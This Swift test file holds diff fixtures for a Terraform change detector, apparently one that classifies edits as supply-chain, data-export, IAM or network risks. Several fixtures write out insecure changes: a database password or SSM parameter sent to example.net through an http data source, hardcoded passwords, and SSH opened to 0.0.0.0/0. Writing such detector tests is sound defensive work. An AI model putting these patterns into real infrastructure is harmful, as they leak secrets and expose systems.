import Detection

extension TerraformEditTests {
  /// Images and addresses of others, secrets that are written out, and rules of a smaller cloud.
  static let outside: [TerraformEdit] = [
    TerraformEdit(
      "anybody's image",
      .widened,
      .supplyChain,
      """
      data "aws_ami" "a" {
        most_recent = true
        [-owners = ["099720109477"]-]
        filter {
          name   = "name"
          values = ["ubuntu-*"]
        }
      }
      """
    ),
    TerraformEdit(
      "an image of one more",
      .widened,
      .supplyChain,
      "data \"aws_ami\" \"a\" {\n owners = [\"self\"{+, \"099720109477\"+}]\n}\n"
    ),
    TerraformEdit(
      "an image by another name",
      .equal,
      "data \"aws_ami\" \"a\" {\n owners = [\"self\"]\n name_regex = \"^web-[-1-]{+2+}\"\n}\n"
    ),
    TerraformEdit(
      "an image of others",
      .incomparable,
      .supplyChain,
      "data \"aws_ami\" \"a\" {\n owners = [\"[-self-]{+099720109477+}\"]\n}\n"
    ),
    TerraformEdit(
      "a password in what is looked up",
      .widened,
      .dataExport,
      "{+data \"http\" \"a\" {\n url = \"https://example.net/?q=${aws_db_instance.a.password}\"\n}+}\n"
    ),
    TerraformEdit(
      "a parameter in what is looked up",
      .widened,
      .dataExport,
      "data \"http\" \"a\" {\n url = \"https://example.net/[-v1-]{+${data.aws_ssm_parameter.a.value}+}\"\n}\n"
    ),
    TerraformEdit(
      "a version in what is looked up",
      .equal,
      "{+data \"http\" \"a\" {\n url = \"https://example.net/${var.release}.json\"\n}+}\n"
    ),
    TerraformEdit(
      "a key by another name too",
      .widened,
      .iam,
      "{+resource \"aws_kms_alias\" \"a\" {\n name = \"alias/a\"\n target_key_id = aws_kms_key.a.id\n}+}\n"
    ),
    same("aws_s3_bucket_acl", "bucket = \"a\"\nacl = \"[-private-]{+log-delivery-write+}\""),
    weaker(
      "aws_s3_bucket_acl",
      "bucket = \"a\"\nacl = \"[-private-]{+authenticated-read+}\"",
      .network
    ),
    same(
      "aws_kms_alias",
      "name = \"alias/a\"\ntarget_key_id = aws_kms_key.[-a-]{+b+}.id",
      .incomparable
    ),
    same(
      "openstack_compute_instance_v2",
      "name = \"a\"\n{+admin_pass = \"x\"+}",
      .widened
    ),
    same(
      "aws_ecs_task_definition",
      """
      family = "a"
      container_definitions = jsonencode([{
        name        = "a"
        image       = "a:1"
        environment = [{ name = "STAGE", value = "a" }{+, { name = "DB_PASSWORD", value = "x" }+}]
      }])
      """,
      .widened
    ),
    same(
      "aws_ecs_task_definition",
      """
      family = "a"
      container_definitions = jsonencode([{
        name        = "a"
        image       = "a:1"
        environment = [{ name = "STAGE", value = "a" }{+, { name = "PASSWORD_HINTS", value = "x" }+}]
      }])
      """
    ),
    same(
      "azurerm_storage_account_network_rules",
      "storage_account_id = azurerm_storage_account.[-a-]{+b+}.id\ndefault_action = \"Deny\"",
      .incomparable
    ),
    weaker(
      "nifcloud_security_group_rule",
      "security_group_names = [\"a\"]\ntype = \"IN\"\nprotocol = \"TCP\"\nfrom_port = 22\ncidr_ip = \"[-10.1.0.0/16-]{+0.0.0.0/0+}\"",
      .network
    ),
    weaker(
      "nifcloud_db_security_group",
      "group_name = \"a\"\nrule {\n cidr_ip = \"10.1.0.0/16\"\n}\n{+rule {\n cidr_ip = \"0.0.0.0/0\"\n}+}",
      .network
    ),
    same(
      "nifcloud_security_group_rule",
      "security_group_names = [\"a\"]\ntype = \"[-IN-]{+OUT+}\"\ncidr_ip = \"10.1.0.0/16\"",
      .incomparable
    ),
    same(
      "nifcloud_dns_record",
      "name = \"a\"\ntype = \"TXT\"\nrecord = \"[-a-]{+b+}\"",
      .incomparable
    ),
  ]
}
